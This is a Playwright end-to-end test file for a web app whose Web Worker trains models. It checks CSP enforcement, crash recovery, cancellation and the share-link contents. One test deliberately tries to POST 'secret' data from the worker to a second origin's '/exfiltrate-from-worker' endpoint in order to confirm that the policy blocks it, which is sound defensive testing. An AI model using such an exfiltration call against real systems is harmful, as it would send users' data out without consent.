// The Web Worker, from the outside: it runs under the page's Content-Security-Policy (a
// cross-origin request from inside the worker is blocked), a worker that dies is reported and
// replaced without losing the user's data and model, Cancel keeps them too, and a load that a
// newer one replaced never lands (the share link describes the data on screen).
//
// The worker is driven through Playwright's own handle on it (`page.workers()`, evaluated in the
// worker over the DevTools protocol): the app ships no test hook at all, so none can reach dist/
// (scripts/check_dist.sh also refuses any file outside the app's own).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { App } from './lib/app.mjs';
import { ROOT, serveStatic, recordingServer, launch, watchErrors, screenshot, appWorker } from './lib/harness.mjs';

const fixture = (name) => join(ROOT, 'tests/e2e/fixtures', name);
let server, other, context;

before(async () => {
  server = await serveStatic();
  other = await recordingServer();
  context = await launch();
});
after(async () => {
  await context?.close();
  server?.close();
  await other?.close();
});

/** The worker has loaded its module and installed the Rust message handler. */
async function workerReady(worker) {
  for (let i = 0; i < 400; i++) {
    if (await worker.evaluate(() => typeof self.fairgroundHeapBytes === 'function')) return;
    await new Promise((r) => setTimeout(r, 50));
  }
  throw new Error('the worker never loaded its module');
}

test('the worker runs under the page\'s policy: a request to another origin from inside it is blocked', async () => {
  const page = await context.newPage();
  const app = new App(page);
  await app.open(server.url);
  const worker = await appWorker(page);
  await workerReady(worker);
  assert.match(worker.url(), /^blob:/, 'the worker is started from a blob: URL (it inherits the page\'s policy)');
  const before = other.received.length;
  const outcome = await worker.evaluate(async ({ origin, own }) => {
    const violations = [];
    self.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    let fetched = true;
    try { await fetch(`${origin}/exfiltrate-from-worker`, { method: 'POST', body: 'secret', mode: 'no-cors' }); } catch { fetched = false; }
    // The same worker may still read the app's own files: the policy, not the network, said no.
    const ownStatus = await fetch(own).then((r) => r.status, () => 0);
    await new Promise((r) => setTimeout(r, 200));
    return { fetched, violations, ownStatus };
  }, { origin: other.origin, own: new URL('data/LICENCE.md', server.url).href });
  assert.equal(outcome.fetched, false, JSON.stringify(outcome));
  assert.ok(outcome.violations.includes('connect-src'), JSON.stringify(outcome));
  assert.equal(outcome.ownStatus, 200, JSON.stringify(outcome));
  assert.equal(other.received.length, before, 'the other origin received nothing');
  await page.close();
});

test('a worker that dies is reported, and a fresh one gets the data and the model back', async () => {
  const page = await context.newPage();
  const errors = watchErrors(page);
  const app = new App(page);
  await app.open(server.url);
  await app.loadBundled('german');
  await app.train();
  const accuracy = await app.text('test-accuracy');
  const dead = await appWorker(page);
  await workerReady(dead);

  // The worker dies (as a trap or running out of memory would kill it: an uncaught error).
  await dead.evaluate(() => { setTimeout(() => { throw new Error('test: the worker died'); }, 0); });
  await app.byTestId('worker-failed').waitFor();
  const message = await app.text('worker-failed');
  assert.match(message, /background worker stopped/, message);
  assert.match(message, /test: the worker died/, message);
  // Nothing on screen was lost.
  assert.equal(await app.text('test-accuracy'), accuracy);
  await screenshot(page, 'worker-died');

  await app.byTestId('restore-worker').click();
  await page.waitForFunction(() => !document.querySelector('[data-testid="worker-failed"]'));
  await app.waitIdle();
  assert.equal(await app.errorText(), null);
  assert.equal(await app.text('test-accuracy'), accuracy);
  // The fresh worker holds the model: intervals (computed in the worker) arrive.
  await app.byTestId('compute-ci').click();
  await app.waitIdle();
  assert.equal(await app.errorText(), null);
  assert.match(await page.locator('.ci-bar .hint').textContent(), /Intervals shown/);
  assert.deepEqual(errors.filter((e) => !/test: the worker died/.test(e)), []);
  await page.close();
});

test('Cancel stops the work under way and keeps the data and the model', async () => {
  const page = await context.newPage();
  const errors = watchErrors(page);
  const app = new App(page);
  await app.open(server.url);
  await app.loadBundled('german');
  await app.train();
  const accuracy = await app.text('test-accuracy');
  const worker = await appWorker(page);
  await workerReady(worker);
  // Keep the worker busy until it is terminated, so the request below is certainly still running
  // when Cancel is clicked (Cancel terminates the worker, so this never completes; no clock).
  worker.evaluate(() => { for (;;) { /* busy until terminated */ } }).catch(() => {});
  await app.byTestId('compute-ci').click();
  await app.byTestId('busy').waitFor();
  await page.locator('[data-testid="busy"] button').click();
  await app.waitIdle();
  assert.equal(await app.errorText(), null);
  assert.equal(await page.locator('[data-testid="worker-failed"]').count(), 0);
  assert.equal(await app.text('test-accuracy'), accuracy, 'the model is still on screen');
  const fresh = await appWorker(page, worker);
  assert.notEqual(fresh, worker, 'a fresh worker replaced the busy one');
  // …and in the fresh worker: the same request now completes.
  await app.byTestId('compute-ci').click();
  await app.waitIdle();
  assert.equal(await app.errorText(), null);
  assert.deepEqual(errors, []);
  await page.close();
});

test('a preset clicked while a file is still being read wins, and the share link describes the preset', async () => {
  const page = await context.newPage();
  const errors = watchErrors(page);
  const app = new App(page);
  await app.open(server.url);
  // The page posts the chosen File to the worker, which reads it: hold the worker's messages from
  // the file's on (as a long read would: the worker takes them in order) until the test releases
  // them.
  const worker = await appWorker(page);
  await workerReady(worker);
  await worker.evaluate(() => {
    const handle = self.onmessage;
    self.__held = [];
    let holding = false;
    self.onmessage = (event) => {
      if (event.data && event.data.file) holding = true;
      if (holding) self.__held.push(event); else handle(event);
    };
    self.__release = () => { holding = false; self.__held.splice(0).forEach((event) => handle(event)); };
  });
  const held = () => worker.evaluate(() => self.__held.length);
  await app.upload(fixture('german_sex_age.csv'));
  for (let i = 0; i < 400 && await held() < 1; i++) await page.waitForTimeout(25);
  assert.equal(await held(), 1, 'the file is being read');
  // The user changes their mind while the file is read: a synthetic preset.
  await page.locator('[data-testid="synth-historical_bias"]').click();
  for (let i = 0; i < 400 && await held() < 2; i++) await page.waitForTimeout(25);
  assert.equal(await held(), 2, 'the preset waits behind the file');
  // Now the file's read finishes, then the preset is generated: the file must not land.
  await worker.evaluate(() => self.__release());
  await page.waitForFunction(() => document.querySelector('[data-testid="step-model"]:not([disabled])'));
  await app.waitIdle();
  await page.waitForTimeout(300);
  const summary = await app.text('dataset-summary');
  assert.doesNotMatch(summary, /1000 rows × 23 columns/);
  assert.doesNotMatch(summary, /german_sex_age/, summary);

  await app.train();
  assert.equal(await app.errorText(), null);
  await page.locator('[data-testid="share-link"]').click();
  const url = await page.locator('[data-testid="share-url"]').inputValue();
  // The settings are postcard bytes (src/export/share.rs): first the data source, as its variant
  // index (0 bundled, 1 synthetic, 2 uploaded), then a synthetic preset's id, length first.
  const state = Buffer.from(url.split('&s=')[1], 'base64url');
  assert.equal(state[0], 1, `synthetic, not ${state[0]}`);
  assert.equal(state.subarray(2, 2 + state[1]).toString('utf8'), 'historical_bias', state.toString('latin1'));
  assert.ok(!state.includes('credit'), 'nothing of the uploaded file is in the link');
  assert.deepEqual(errors, []);
  await page.close();
});
